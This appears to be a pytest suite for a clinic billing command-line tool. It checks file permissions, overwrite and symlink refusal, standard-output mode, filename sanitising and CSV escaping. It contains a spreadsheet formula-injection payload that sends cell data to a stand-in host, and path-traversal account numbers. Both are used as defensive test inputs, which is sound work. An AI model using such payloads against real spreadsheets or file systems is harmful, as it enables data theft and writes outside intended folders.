"""Files the tool writes (issue 14 §2) through the real CLI: 0600 whatever the umask, no
overwrite without --force, never through a symlink, a missing folder refused, `-o -` is
standard output, default names that stay in the working directory and never collide, and CSV
cells that cannot run as spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import update

from clinicbill.store.engine import transaction
from clinicbill.store.models import Patient
from tests.documents_data import build_history, pdf_words


def mode_of(path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


@pytest.fixture
def history(sample_db):
    with transaction(sample_db, "tester") as session:
        return build_history(session)


@pytest.fixture
def umask(request):
    old = os.umask(request.param)
    yield request.param
    os.umask(old)


def _ok(result):
    assert result.exit_code == 0, result.output + result.stderr
    return result


@pytest.mark.parametrize("umask", [0o000, 0o022], indirect=True)
def test_every_patient_file_is_0600_and_its_folder_0700(
    sample_run, history, tmp_path, monkeypatch, umask
):
    monkeypatch.chdir(tmp_path)
    run = sample_run
    _ok(run("superbill", "P00001"))
    _ok(run("statement", "P00001", "--as-of", "2026-03-31"))
    _ok(run("receipt", str(history["hsa_payment"])))
    _ok(run("estimate", "P00006", "--code", "97124:units=4", "--provider", "Reyes"))
    _ok(run("estimate", "pdf", "1", "-o", "estimate-copy.pdf"))
    _ok(run("session", "note", str(history["chen_1"])))
    _ok(run("claim", "create", "--all"))
    for fmt in ("837p", "cms1500", "csv", "json"):
        _ok(run("claim", "export", "1", "--format", fmt, "--force"))
    _ok(run("aging", "--as-of", "2026-03-31", "--format", "csv"))
    _ok(run("aging", "--as-of", "2026-03-31", "--format", "pdf"))
    _ok(run("report", "revenue", "--from", "2026-01-01", "--to", "2026-03-31", "--format", "csv"))
    _ok(run("report", "followup", "--format", "json", "-o", "followup.json"))
    _ok(run("export-all", "export"))
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    names = {p.name for p in written}
    assert {"superbill-P00001-2026-02-10.pdf", "statement-P00001-2026-03-31.pdf"} <= names
    assert {"estimate-1.pdf", "estimate-copy.pdf", "claims-1.837", "cms1500-1-batch2.pdf"} <= names
    assert {"claims-3.csv", "claims-4.json", "aging-2026-03-31.csv", "followup.json"} <= names
    assert {"patient.csv", "patient.json", "manifest.json"} <= names
    assert len(written) > 20
    assert {p.name: oct(mode_of(p)) for p in written if mode_of(p) != 0o600} == {}
    assert mode_of(tmp_path / "export") == 0o700
    assert not [p for p in written if p.name.endswith(".partial")]


def test_an_existing_file_needs_force(sample_run, history, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    target = tmp_path / "chen.pdf"
    target.write_bytes(b"the practice's own file")
    for args in (
        ["superbill", "P00001", "-o", str(target)],
        ["statement", "P00001", "-o", str(target)],
        ["aging", "--format", "csv", "-o", str(target)],
    ):
        result = sample_run(*args)
        assert result.exit_code == 1, args
        assert f"error: output: {target} already exists" in result.stderr
        assert "hint: add --force to replace it, or give -o another path" in result.stderr
        assert target.read_bytes() == b"the practice's own file"
    _ok(sample_run("superbill", "P00001", "-o", str(target), "--force"))
    assert "Superbill" in pdf_words(target) and mode_of(target) == 0o600
    # a default name met again is the same refusal
    _ok(sample_run("statement", "P00001", "--as-of", "2026-03-31"))
    again = sample_run("statement", "P00001", "--as-of", "2026-03-31")
    assert again.exit_code == 1 and "--force" in again.stderr and "-o" in again.stderr


@pytest.mark.parametrize("dangling", [False, True])
def test_a_symlink_is_never_written_through(sample_run, history, tmp_path, dangling):
    victim = tmp_path / "victim.txt"
    if not dangling:
        victim.write_text("keep me")
    link = tmp_path / "superbill.pdf"
    link.symlink_to(victim)
    for extra in ([], ["--force"]):
        result = sample_run("superbill", "P00001", "-o", str(link), *extra)
        assert result.exit_code == 1
        assert f"error: output: {link} is a symbolic link" in result.stderr
    assert link.is_symlink() and victim.exists() is not dangling
    if not dangling:
        assert victim.read_text() == "keep me"


def test_a_missing_folder_is_refused(sample_run, history, tmp_path):
    out = tmp_path / "nowhere" / "sb.pdf"
    result = sample_run("superbill", "P00001", "-o", str(out))
    assert result.exit_code == 1
    assert f"error: output: the folder {out.parent} does not exist" in result.stderr
    assert "mkdir -p" in result.stderr and not out.parent.exists()


def test_superbill_scopes_never_share_a_file(sample_run, history, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    latest = _ok(sample_run("superbill", "P00001"))
    session = _ok(sample_run("superbill", "P00001", "--session", str(history["chen_2"])))
    ranged = _ok(sample_run("superbill", "P00001", "--from", "2026-02-10", "--to", "2026-02-10"))
    assert latest.stdout.startswith("wrote superbill-P00001-2026-02-10.pdf")
    assert session.stdout.startswith(
        f"wrote superbill-P00001-2026-02-10-session-{history['chen_2']}.pdf"
    )
    assert ranged.stdout.startswith("wrote superbill-P00001-2026-02-10_2026-02-10.pdf")
    assert len(list(tmp_path.glob("superbill-*.pdf"))) == 3
    clash = sample_run("superbill", "P00001")
    assert clash.exit_code == 1 and "already exists" in clash.stderr
    assert "--force" in clash.stderr and "-o" in clash.stderr


@pytest.mark.parametrize(
    "bad", ["../../outside/e1", "a/b", "P 1", "-P1", "P1-", "Ｐ1", "x" * 21, ".."]
)
def test_account_numbers_are_letters_digits_and_dashes(sample_run, bad):
    added = sample_run(
        "patient", "add", "--first-name", "Eve", "--last-name", "Stone", "--dob", "1980-01-01",
        "--sex", "F", "--account-number", bad,
    )  # fmt: skip
    assert added.exit_code == 1
    assert "error: account-number:" in added.stderr and "hint:" in added.stderr
    edited = sample_run("patient", "edit", "P00001", "--account-number", bad)
    assert edited.exit_code == 1 and "error: account-number:" in edited.stderr
    with transaction(sample_run.db_url, "tester") as s:
        assert s.get(Patient, 1).account_number == "P00001"


def test_a_good_account_number_is_kept_in_capitals(sample_run):
    added = sample_run(
        "--json", "patient", "add", "--first-name", "Eve", "--last-name", "Stone",
        "--dob", "1980-01-01", "--sex", "F", "--account-number", "stone-2",
    )  # fmt: skip
    assert added.exit_code == 0, added.stderr
    assert json.loads(added.stdout)["account_number"] == "STONE-2"


def test_an_old_hostile_account_number_still_writes_in_the_working_directory(
    sample_run, history, tmp_path, monkeypatch
):
    """A database from before the rule: the generated name is sanitized all the same."""
    work = tmp_path / "a" / "b" / "c" / "work"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    with transaction(sample_run.db_url, "tester") as s:
        s.execute(update(Patient).where(Patient.id == 1).values(account_number="../../../../e1"))
    for args in (["superbill", "1"], ["statement", "1", "--as-of", "2026-03-31"]):
        _ok(sample_run(*args))
    outside = [p for p in tmp_path.rglob("*.pdf") if p.parent != work]
    assert outside == []
    assert sorted(p.name for p in work.iterdir()) == [
        "statement-._._._._e1-2026-03-31.pdf",
        "superbill-._._._._e1-2026-02-10.pdf",
    ]


def test_dash_means_standard_output(sample_run, history, tmp_path, monkeypatch):
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    pdfs = {
        "superbill": ["superbill", "P00001", "-o", "-"],
        "statement": ["statement", "P00001", "-o", "-"],
        "receipt": ["receipt", str(history["hsa_payment"]), "-o", "-"],
        "estimate": ["estimate", "P00006", "--code", "97124", "--provider", "Reyes", "-o", "-"],
        "estimate pdf": ["estimate", "pdf", "1", "-o", "-"],
        "note": ["session", "note", str(history["chen_1"]), "-o", "-"],
        "aging pdf": ["aging", "--format", "pdf", "-o", "-"],
    }
    for what, args in pdfs.items():
        result = _ok(sample_run(*args))
        assert result.stdout_bytes.startswith(b"%PDF-"), what
        assert result.stdout_bytes.rstrip().endswith(b"%%EOF"), what
        if what != "aging pdf":  # the confirmation goes to standard error, off the data
            assert "standard output" in result.stderr, what
    _ok(sample_run("claim", "create", "--all"))
    exported = _ok(sample_run("claim", "export", "1", "--format", "csv", "-o", "-"))
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert rows and rows[0]["box_24D_code"] == "97124"
    assert "wrote standard output" in exported.stderr
    x12 = _ok(sample_run("claim", "export", "1", "--format", "837p", "-o", "-", "--force"))
    assert x12.stdout.startswith("ISA*")
    with_json = _ok(sample_run("--json", "claim", "export", "1", "--format", "json", "-o", "-"))
    assert json.loads(with_json.stdout)[0]["box_24D_code"] == "97124"
    assert json.loads(with_json.stderr)["path"] == "-"  # the summary stays off the data
    report = _ok(sample_run("aging", "--as-of", "2026-03-31", "--format", "csv", "-o", "-"))
    assert report.stdout.startswith("Accounts receivable aging")
    assert list(work.iterdir()) == []  # no file named "-", nothing else either


def test_csv_cells_cannot_run_as_formulas(sample_run, history, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    hostile = '=HYPERLINK("http://x.example/?"&A1,"click")'
    _ok(sample_run("patient", "edit", "P00001", "--last-name", hostile))
    _ok(sample_run("claim", "create", "--all"))
    _ok(sample_run("claim", "export", "1", "--format", "csv", "-o", "claims.csv"))
    _ok(sample_run("claim", "export", "1", "--format", "json", "-o", "claims.json"))
    _ok(sample_run("aging", "--as-of", "2026-03-31", "--by", "patient", "--format", "csv"))
    _ok(sample_run("export-all", "export"))
    cells = []
    for name in ("claims.csv", "aging-2026-03-31.csv", "export/patient.csv"):
        with open(tmp_path / name, newline="", encoding="utf-8") as fh:
            cells += [cell for row in csv.reader(fh) for cell in row]
    risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert risky == []
    assert [
        c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()
    ] == []
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    rows = list(csv.DictReader(open(tmp_path / "claims.csv", newline="", encoding="utf-8")))
    assert rows[0]["box_2"].startswith("'=HYPERLINK(")
    exact = json.loads((tmp_path / "export" / "patient.json").read_text())
    assert exact[0]["last_name"] == hostile  # the JSON keeps the value exactly
    assert json.loads((tmp_path / "claims.json").read_text())[0]["box_2"].startswith("=HYPER")


def test_files_are_private_in_a_real_subprocess(sample_db, history, tmp_path):
    """The installed script under umask 000: the file is still 0600; `-o -` pipes the PDF."""
    exe = Path(sys.executable).parent / "clinicbill"
    env = {**os.environ, "CLINICBILL_DB": sample_db}
    made = subprocess.run(
        ["sh", "-c", f'umask 000 && exec "{exe}" statement P00001 --as-of 2026-03-31'],
        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert made.returncode == 0, made.stderr
    path = tmp_path / "statement-P00001-2026-03-31.pdf"
    assert mode_of(path) == 0o600
    piped = subprocess.run(
        [str(exe), "superbill", "P00001", "-o", "-"],
        cwd=tmp_path, env=env, capture_output=True, timeout=60,
    )  # fmt: skip
    assert piped.returncode == 0, piped.stderr
    assert piped.stdout.startswith(b"%PDF-") and b"wrote standard output" in piped.stderr
    again = subprocess.run(
        [str(exe), "statement", "P00001", "--as-of", "2026-03-31"],
        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert again.returncode == 1 and "already exists" in again.stderr
    assert "Traceback" not in again.stderr
    assert sorted(p.name for p in tmp_path.iterdir() if p.suffix == ".pdf") == [path.name]
